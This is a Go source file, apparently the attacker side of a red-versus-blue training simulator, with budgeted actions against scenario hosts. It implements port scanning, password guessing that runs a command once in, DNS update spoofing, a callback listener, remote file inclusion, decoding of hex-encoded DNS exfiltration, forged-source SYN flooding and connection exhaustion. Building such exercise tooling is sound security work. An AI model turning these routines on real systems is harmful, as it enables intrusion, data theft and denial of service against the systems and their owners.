package red

import (
	"context"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"maps"
	"net"
	"net/netip"
	"net/url"
	"slices"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"trainerd/secloop/scenario"
)

// scan tries ports of the target, and of that many hosts when targets says so,
// and counts those that are open.
func (r *Red) scan(ctx context.Context, b *budget, src netip.Addr, with map[string]string) (scenario.Result, error) {
	hosts := scenario.Hosts()
	n, err := number(with, "targets", 1, len(hosts))
	if err != nil {
		return scenario.Result{}, err
	}
	if n == 1 {
		hosts = []scenario.Host{r.target()}
	}
	var mu sync.Mutex // of the budget and the result
	var res scenario.Result
	var wg sync.WaitGroup
	for _, h := range hosts[:n] {
		wg.Go(func() {
			for p := range strings.SplitSeq(with["ports"], ",") {
				port, err := number(map[string]string{"ports": p}, "ports", 1, 65535)
				if err != nil {
					return
				}
				mu.Lock()
				one := &budget{stand: r.stand, left: min(1, b.left)}
				b.left--
				b.used++
				mu.Unlock()
				c, err := one.dial(ctx, src, netip.AddrPortFrom(h.Addr, uint16(port)))
				if err != nil {
					continue
				}
				c.Close()
				mu.Lock()
				res.Count++
				mu.Unlock()
			}
		})
	}
	wg.Wait()
	return res, nil
}

// http sends one request.
func (r *Red) http(ctx context.Context, b *budget, src netip.Addr, with map[string]string) (scenario.Result, error) {
	at := r.target().At()
	if with["port"] != "" {
		port, err := number(with, "port", 1, 65535)
		if err != nil {
			return scenario.Result{}, err
		}
		at = netip.AddrPortFrom(at.Addr(), uint16(port))
	}
	c, err := b.dial(ctx, src, at)
	if err != nil {
		return scenario.Result{}, err
	}
	method := with["method"]
	if method == "" {
		method = "GET"
	}
	path := with["path"]
	if q := with["query"]; q != "" {
		k, v, _ := strings.Cut(q, "=")
		path += "?" + k + "=" + url.QueryEscape(v)
	}
	head := ""
	if with["header"] != "" {
		head = with["header"] + "\r\n"
	}
	out, err := ask(c, fmt.Sprintf("%s %s HTTP/1.1\r\nHost: shop\r\n%sContent-Length: %d\r\n\r\n%s", method, path, head, len(with["body"]), with["body"]))
	return scenario.Result{Output: out, Count: len(out)}, err
}

// store sends commands, separated by ";", and takes leave.
func (r *Red) store(ctx context.Context, b *budget, src netip.Addr, with map[string]string) (scenario.Result, error) {
	c, err := b.dial(ctx, src, r.target().At())
	if err != nil {
		return scenario.Result{}, err
	}
	text := ""
	for command := range strings.SplitSeq(with["commands"], ";") {
		text += strings.TrimSpace(command) + "\n"
	}
	out, err := ask(c, text+"QUIT\n")
	return scenario.Result{Output: out, Count: len(out)}, err
}

// login guesses passwords, three a connection, and runs one command when it is
// in; when the password is known it needs no guess.
func (r *Red) login(ctx context.Context, b *budget, src netip.Addr, with map[string]string) (scenario.Result, error) {
	words := []string{r.ep.Password}
	if with["known"] == "" {
		n, err := number(with, "guesses", 1, len(r.ep.Words))
		if err != nil {
			return scenario.Result{}, err
		}
		words = r.ep.Words[:n]
	}
	for group := range slices.Chunk(words, 3) {
		c, err := b.dial(ctx, src, r.target().At())
		if err != nil {
			return scenario.Result{}, err
		}
		try := guess
		if r.ep.Real && r.target().Service == scenario.Shell {
			try = guessSSH
		}
		out, err := try(c, group, with["run"])
		c.Close()
		if err != nil || out != "" {
			return scenario.Result{Output: out}, err
		}
	}
	return scenario.Result{}, nil
}

// guess returns what the service said after a right guess, "" after none.
func guess(c net.Conn, words []string, command string) (string, error) {
	if _, err := readLine(c); err != nil {
		return "", err
	}
	for _, w := range words {
		if _, err := io.WriteString(c, "PASS "+w+"\n"); err != nil {
			return "", err
		}
		answer, err := readLine(c)
		if err != nil {
			return "", err
		}
		if answer == "welcome" {
			if _, err := io.WriteString(c, "RUN "+command+"\n"); err != nil {
				return answer, err
			}
			more, err := readLine(c)
			return answer + "\n" + more, err
		}
	}
	return "", nil
}

// dns sends one update or one query.
func (r *Red) dns(ctx context.Context, b *budget, src netip.Addr, with map[string]string) (scenario.Result, error) {
	zone := dnsmessage.Question{Name: dnsmessage.MustNewName("corp.test."), Type: dnsmessage.TypeSOA, Class: dnsmessage.ClassINET}
	m := dnsmessage.Message{Header: dnsmessage.Header{ID: 1}}
	if name := with["update"]; name != "" {
		to, err := netip.ParseAddr(with["to"])
		if err != nil {
			return scenario.Result{}, fmt.Errorf("parameter to: %w", err)
		}
		n, err := dnsmessage.NewName(name + ".")
		if err != nil {
			return scenario.Result{}, fmt.Errorf("parameter update: %w", err)
		}
		m.OpCode = 5
		m.Questions = []dnsmessage.Question{zone}
		m.Authorities = []dnsmessage.Resource{{
			Header: dnsmessage.ResourceHeader{Name: n, Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET, TTL: 60},
			Body:   &dnsmessage.AResource{A: to.As4()},
		}}
	} else {
		n, err := dnsmessage.NewName(with["query"] + ".")
		if err != nil {
			return scenario.Result{}, fmt.Errorf("parameter query: %w", err)
		}
		m.Questions = []dnsmessage.Question{{Name: n, Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}}
	}
	out, err := m.Pack()
	if err != nil {
		return scenario.Result{}, err
	}
	c, err := b.dial(ctx, src, r.target().At())
	if err != nil {
		return scenario.Result{}, err
	}
	got, err := ask(c, string(binary.BigEndian.AppendUint16(nil, uint16(len(out))))+string(out))
	if err != nil || len(got) < 2 {
		return scenario.Result{}, err
	}
	var answer dnsmessage.Message
	if err := answer.Unpack([]byte(got[2:])); err != nil {
		return scenario.Result{}, fmt.Errorf("unpack answer: %w", err)
	}
	if answer.RCode != dnsmessage.RCodeSuccess {
		return scenario.Result{Output: answer.RCode.String()}, nil
	}
	text := "accepted"
	for _, a := range answer.Answers {
		if body, ok := a.Body.(*dnsmessage.AResource); ok {
			text += " " + netip.AddrFrom4(body.A).String()
		}
	}
	return scenario.Result{Output: text}, nil
}

// listen takes the first connection of what blue's host was made to run,
// answers with send and keeps what comes; with least it waits for volume, see
// pull. Prepare has opened the listener.
func (r *Red) listen(ctx context.Context, b *budget, _ netip.Addr, with map[string]string) (scenario.Result, error) {
	c, err := r.accept(ctx, b)
	if err != nil {
		return scenario.Result{}, err
	}
	text := ""
	if with["send"] != "" {
		text = with["send"] + "\n"
	}
	if text == "" { // the first line is all that is wanted
		defer c.Close()
		line, err := readLine(c)
		return scenario.Result{Output: line, Count: len(line)}, err
	}
	if with["least"] == "" {
		out, err := ask(c, text)
		return scenario.Result{Output: out, Count: len(out)}, err
	}
	least, err := number(with, "least", 1, maxBytes)
	if err != nil {
		c.Close()
		return scenario.Result{}, err
	}
	out, err := pull(c, text, least)
	res := scenario.Result{Output: out, Count: len(out)}
	if err != nil { // what came, came: there is nothing to try from elsewhere
		res.Error = err.Error()
	}
	return res, nil
}

// accept takes the first connection to what Prepare has opened.
func (r *Red) accept(ctx context.Context, b *budget) (net.Conn, error) {
	if r.ln == nil {
		return nil, fmt.Errorf("not prepared")
	}
	ln := r.ln
	defer r.closeListener()
	stop := context.AfterFunc(ctx, func() { ln.Close() })
	defer stop()
	c, err := ln.Accept()
	if err == nil {
		b.used++
		c.SetDeadline(time.Now().Add(maxTime))
	}
	return c, err
}

// include sends one request that makes the target come for a file, and serves it.
func (r *Red) include(ctx context.Context, b *budget, src netip.Addr, with map[string]string) (scenario.Result, error) {
	if err := r.open(with); err != nil {
		return scenario.Result{}, err
	}
	ln, served := r.ln, make(chan int)
	go func() {
		n := 0
		for c, err := ln.Accept(); err == nil; c, err = ln.Accept() {
			c.SetDeadline(time.Now().Add(maxTime))
			for line, err := readLine(c); err == nil && line != ""; line, err = readLine(c) {
			}
			fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s", len(with["serve"]), with["serve"])
			c.Close()
			n++
		}
		served <- n
	}()
	request := maps.Clone(with)
	delete(request, "port")
	res, err := r.http(ctx, b, src, request)
	r.closeListener()
	res.Count = <-served
	return res, err
}

// names answers the first lookup of what blue's host was made to run and keeps the name.
func (r *Red) names(ctx context.Context, b *budget, _ netip.Addr, with map[string]string) (scenario.Result, error) {
	to, err := netip.ParseAddr(with["answer"])
	if err != nil {
		return scenario.Result{}, fmt.Errorf("parameter answer: %w", err)
	}
	c, err := r.accept(ctx, b)
	if err != nil {
		return scenario.Result{}, err
	}
	defer c.Close()
	var size [2]byte
	if _, err := io.ReadFull(c, size[:]); err != nil {
		return scenario.Result{}, err
	}
	buf := make([]byte, binary.BigEndian.Uint16(size[:]))
	if _, err := io.ReadFull(c, buf); err != nil {
		return scenario.Result{}, err
	}
	var m dnsmessage.Message
	if err := m.Unpack(buf); err != nil || len(m.Questions) != 1 {
		return scenario.Result{}, fmt.Errorf("unpack lookup: %v, %d questions", err, len(m.Questions))
	}
	q := m.Questions[0]
	m.Response = true
	m.Answers = []dnsmessage.Resource{{
		Header: dnsmessage.ResourceHeader{Name: q.Name, Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET, TTL: 60},
		Body:   &dnsmessage.AResource{A: to.As4()},
	}}
	out, err := m.Pack()
	if err != nil {
		return scenario.Result{}, err
	}
	_, err = c.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(out))), out...))
	text := q.Name.String()
	first, _, _ := strings.Cut(text, ".")
	if said, e := hex.DecodeString(first); e == nil {
		text += " " + string(said)
	}
	return scenario.Result{Output: text, Count: len(text)}, err
}

// syn sends SYNs with forged sources, completes none and keeps the queue full until Release.
func (r *Red) syn(ctx context.Context, _ *budget, _ netip.Addr, with map[string]string) (scenario.Result, error) {
	n, err := number(with, "packets", 1, maxSYN)
	if err != nil {
		return scenario.Result{}, err
	}
	f, ok := r.stand.(scenario.Flooder)
	if !ok {
		return scenario.Result{}, fmt.Errorf("this stand cannot send SYNs")
	}
	sent, stop, err := f.Flood(ctx, r.target().At(), n)
	if stop != nil {
		r.stops = append(r.stops, stop)
	}
	return scenario.Result{Count: sent, Packets: sent}, err
}

// connections opens connections from all of red's addresses in turn, says the
// beginning of a request where there is one, and holds them until Release.
func (r *Red) connections(ctx context.Context, b *budget, _ netip.Addr, with map[string]string) (scenario.Result, error) {
	n, err := number(with, "connections", 1, maxConnections)
	if err != nil {
		return scenario.Result{}, err
	}
	var last error
	for i := range n { // in turn, so that those which find no room are spread over the sources
		c, err := b.dial(ctx, r.ep.Sources[i%len(r.ep.Sources)], r.target().At())
		if err != nil {
			last = err
			continue
		}
		r.held = append(r.held, c)
		if with["say"] != "" { // whoever is turned away at once does not listen
			io.WriteString(c, with["say"])
		}
	}
	return scenario.Result{Count: len(r.held)}, last
}

// anyOf accepts from several listeners.
type anyOf struct {
	lns   []net.Listener
	conns chan net.Conn
	wg    sync.WaitGroup
	once  sync.Once
	done  chan struct{}
}

func (a *anyOf) add(ln net.Listener) {
	if a.done == nil {
		a.done = make(chan struct{})
	}
	a.lns = append(a.lns, ln)
	a.wg.Go(func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			select {
			case a.conns <- c:
			case <-a.done:
				c.Close()
				return
			}
		}
	})
}

// Accept implements net.Listener.
func (a *anyOf) Accept() (net.Conn, error) {
	select {
	case c := <-a.conns:
		return c, nil
	case <-a.done:
		return nil, net.ErrClosed
	}
}

// Close implements net.Listener and waits for the accepting goroutines.
func (a *anyOf) Close() error {
	a.once.Do(func() {
		if a.done != nil {
			close(a.done)
		}
		for _, ln := range a.lns {
			ln.Close()
		}
		a.wg.Wait()
		for {
			select {
			case c := <-a.conns:
				c.Close()
			default:
				return
			}
		}
	})
	return nil
}

// Addr implements net.Listener.
func (a *anyOf) Addr() net.Addr { return a.lns[0].Addr() }
